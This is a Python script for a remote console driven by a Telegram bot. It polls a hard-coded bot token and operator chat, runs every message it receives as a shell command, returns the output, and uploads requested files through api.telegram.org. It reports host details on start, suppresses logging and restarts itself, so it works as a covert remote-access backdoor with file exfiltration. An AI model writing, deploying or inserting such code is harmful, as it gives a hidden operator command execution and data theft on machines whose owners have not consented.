#!/usr/bin/env python3
"""Remote console over a Telegram bot.

Polls the bot for messages from the operator chat and executes whatever
text arrives as a shell command on this machine, replying with the output.
Also supports fetching files (/get <path>) and changing directory (/cd).
"""
import json
import logging
import os
import platform
import socket
import subprocess
import time
import urllib.parse
import urllib.request
import uuid

TOKEN = "6843107725:AAF3kq9Lr0Zx1mWcPvT8sYhQe2uJbN5dGoI"
OPERATOR_CHAT = 5127734901
API = f"https://api.telegram.org/bot{TOKEN}"
POLL_TIMEOUT = 30
log = logging.getLogger("tgc")


def api_call(method, **params):
    data = urllib.parse.urlencode(params).encode()
    with urllib.request.urlopen(f"{API}/{method}", data=data, timeout=POLL_TIMEOUT + 10) as r:
        return json.load(r)


def send_text(text):
    for i in range(0, max(len(text), 1), 4000):
        api_call("sendMessage", chat_id=OPERATOR_CHAT, text=text[i:i + 4000] or "(empty)")


def send_file(path):
    boundary = uuid.uuid4().hex
    with open(path, "rb") as fh:
        content = fh.read()
    body = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n{OPERATOR_CHAT}\r\n"
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"document\"; "
        f"filename=\"{os.path.basename(path)}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
    ).encode() + content + f"\r\n--{boundary}--\r\n".encode()
    req = urllib.request.Request(f"{API}/sendDocument", data=body,
                                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    urllib.request.urlopen(req, timeout=60).read()


def run_shell(command, cwd):
    try:
        proc = subprocess.Popen(command, shell=True, cwd=cwd, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        out, _ = proc.communicate(timeout=120)
        return out.decode(errors="replace") + f"\n[rc={proc.returncode}]"
    except subprocess.TimeoutExpired:
        proc.kill()
        return "[timeout]"


def announce():
    info = f"online: {os.getlogin() if hasattr(os, 'getlogin') else '?'}@{socket.gethostname()} " \
           f"{platform.platform()} pid={os.getpid()}"
    try:
        send_text(info)
    except Exception:
        pass


def loop():
    offset = 0
    cwd = os.path.expanduser("~")
    announce()
    while True:
        try:
            res = api_call("getUpdates", offset=offset, timeout=POLL_TIMEOUT)
        except Exception as exc:
            log.debug("poll error %s", exc)
            time.sleep(10)
            continue
        for upd in res.get("result", []):
            offset = upd["update_id"] + 1
            msg = upd.get("message") or {}
            if msg.get("chat", {}).get("id") != OPERATOR_CHAT:
                continue
            text = (msg.get("text") or "").strip()
            if not text:
                continue
            try:
                if text.startswith("/cd "):
                    target = os.path.expanduser(text[4:].strip())
                    cwd = os.path.abspath(os.path.join(cwd, target))
                    send_text(f"cwd={cwd}")
                elif text.startswith("/get "):
                    send_file(os.path.join(cwd, text[5:].strip()))
                elif text == "/ping":
                    send_text("pong")
                else:
                    send_text(run_shell(text, cwd))
            except Exception as exc:
                send_text(f"error: {exc}")


if __name__ == "__main__":
    logging.basicConfig(level=logging.CRITICAL)
    while True:
        try:
            loop()
        except KeyboardInterrupt:
            break
        except Exception:
            time.sleep(30)
